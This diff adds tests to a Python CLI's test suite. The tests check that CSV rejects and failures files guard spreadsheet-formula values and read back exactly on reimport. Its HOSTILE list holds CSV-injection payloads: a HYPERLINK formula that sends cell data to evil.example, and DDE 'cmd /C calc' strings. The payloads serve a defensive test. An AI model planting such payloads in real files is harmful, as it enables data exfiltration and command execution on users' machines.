@@ -19,8 +19,14 @@ import sys
 from collections.abc import Callable, Iterator
 from pathlib import Path
 
+import httpx
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
+from shandy_cli.pipeline.formulas import guard, unguard
+from shandy_cli.pipeline.reporting import RowsWriter
+from shandy_cli.pipeline.sources import open_source
 from shandy_cli.sandbox import Sandbox
 from tests.test_attack_11 import Answer, Decide, Hostile
 from tests.test_import import HEADER
@@ -203,3 +209,128 @@ def test_missing_report_dir_and_parents_are_made_private(sandbox: Sandbox, tmp_p
     for folder in (tmp_path / "new", reports, tmp_path / "out"):
         assert mode(folder) & 0o777 == 0o700, folder
     assert mode(rejects) == 0o600 and all(mode(p) == 0o600 for p in reports.iterdir())
+
+
+# -- 8. files for people are safe in a spreadsheet, and byte-exact to import again -----------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "+A1",
+    "'=already quoted",
+    "'plain quote",
+    "\t=tabbed",
+    "\r=cr",
+]
+HARMLESS = ["+14155550100", "-3.5", "+1 (415) 555-0100", "plain", "", "a=b", "O'Brien"]
+
+
+@given(st.text())
+@settings(max_examples=500, deadline=None)
+def test_guard_round_trips_every_string(value: str) -> None:
+    guarded = guard(value)
+    assert unguard(guarded) == value
+    # What is written starts with no formula trigger but the sign of a plain number.
+    assert guarded[:1] not in ("=", "@", "\t", "\r") and (
+        guarded[:1] not in ("+", "-") or guarded == value
+    )
+    assert guarded == value or guarded == "'" + value
+
+
+# Text a CSV reader takes (no NULs or other controls, which mark a binary file),
+# weighted towards the characters the guard is about.
+CELL = st.text(st.characters(blacklist_categories=["Cs", "Cc"]) | st.sampled_from("\t\r\n'=@+-0 "))
+
+
+@given(st.lists(CELL, min_size=2, max_size=2))
+@settings(
+    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+def test_a_rejects_file_reads_back_exactly(tmp_path: Path, values: list[str]) -> None:
+    """RowsWriter, then the CSV reader of a file shandy wrote: the values it was given."""
+    path = tmp_path / "r.rejects.csv"
+    writer = RowsWriter(path, ["Email", "=Note"])
+    writer.add("=in.csv", 3, ["Email", "=Note"], values, "@reason")
+    writer.close()
+    with open_source(str(path)) as source:
+        assert source.info.columns == ["Email", "=Note", "_file", "_row", "_reason"]
+        (row,) = list(source.rows())
+    assert row.values == [*values, "=in.csv", "3", "@reason"]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_hostile_values_are_guarded(value: str) -> None:
+    assert guard(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", HARMLESS)
+def test_numbers_and_phones_stay_as_they_are(value: str) -> None:
+    assert guard(value) == value and unguard(value) == value
+
+
+def sandbox_prospects(sandbox: Sandbox) -> dict[str, dict[str, str]]:
+    """What the sandbox holds, by email: the values it was sent."""
+    answer = httpx.get(f"{sandbox.url}/v1/prospects", params={"pageSize": 100},
+                       headers={"x-api-key": SECRET})  # fmt: skip
+    people = {}
+    for prospect in answer.json()["payload"]:
+        people[prospect["email"]] = {a["key"]: a["value"] for a in prospect["attributes"]}
+    return people
+
+
+@pytest.mark.parametrize("columnar", ["0", "1"])
+def test_fix_and_reimport_sends_the_refused_values_exactly(
+    sandbox: Sandbox, tmp_path: Path, columnar: str
+) -> None:
+    """Rows with formula-like values are refused for their email; the rejects file guards
+    them; fixing the emails and importing the rejects file sends the original values."""
+    notes = HOSTILE + HARMLESS
+    rows = [["Email", "First Name", "Company"]]
+    rows += [[f"bad{i}", note, f"Co{i}"] for i, note in enumerate(notes)]
+    src = write_rows(tmp_path / "leads.csv", rows)
+    env = {**at(sandbox), "SHANDY_COLUMNAR": columnar}
+    first = shandy("import", str(src), "--step", "StepA1", "--json", cwd=tmp_path, env=env)
+    assert first.returncode == 1, first.stderr
+    rejects = Path(json.loads(first.stdout)["rejects_file"])
+    with rejects.open(newline="", encoding="utf-8") as fh:
+        written = list(csv.reader(fh))
+    by_note = {note: row[1] for note, row in zip(notes, written[1:], strict=True)}
+    assert all(by_note[v] == "'" + v for v in HOSTILE), by_note
+    assert all(by_note[v] == v for v in HARMLESS), by_note
+    # Fixed in "a spreadsheet": only the email column changes, every other cell as written.
+    fixed = [written[0], *([f"p{i}@example.com", *row[1:]] for i, row in enumerate(written[1:]))]
+    write_rows(rejects, fixed)
+    again = shandy("import", str(rejects), "--step", "StepA1", "--on-unknown-column", "ignore",
+                   "--json", cwd=tmp_path, env=env)  # fmt: skip
+    assert again.returncode == 0, again.stderr
+    sent = sandbox_prospects(sandbox)
+    for i, note in enumerate(notes):
+        assert sent[f"p{i}@example.com"].get("First Name", "") == note.strip(), note
+
+
+def test_an_ordinary_csv_starting_with_a_quote_is_read_as_it_is(
+    sandbox: Sandbox, tmp_path: Path
+) -> None:
+    """Only files shandy wrote lose a leading ``'``: anyone else's values are theirs."""
+    rows = [["Email", "First Name", "reason"], ["q@example.com", "'=kept", "'x"]]
+    src = write_rows(tmp_path / "plain.csv", rows)
+    done = shandy("import", str(src), "--step", "StepA1", "--on-unknown-column", "ignore",
+                  cwd=tmp_path, env=at(sandbox))  # fmt: skip
+    assert done.returncode == 0, done.stderr
+    assert sandbox_prospects(sandbox)["q@example.com"]["First Name"] == "'=kept"
+
+
+def test_the_failures_file_is_guarded_and_its_rejects_copied_exactly(
+    sandbox: Sandbox, tmp_path: Path
+) -> None:
+    """The failures file copies the rejects file: read back, guarded once, not twice."""
+    rows = [["Email", "First Name"], ["bad", "=1+1"], ["p0@example.com", "Ann"]]
+    src = write_rows(tmp_path / "l.csv", rows)
+    args = ("import", str(src), "--step", "StepA1", "--json")
+    shandy(*args, cwd=tmp_path, env=at(sandbox))
+    again = shandy(*args, "--conflict", "overwrite", "--force", cwd=tmp_path, env=at(sandbox))
+    failures = json.loads(again.stdout)["failures_file"]
+    with open(failures, newline="", encoding="utf-8") as fh:
+        cells = {row[0]: row[1] for row in csv.reader(fh)}
+    assert cells["bad"] == "'=1+1", cells
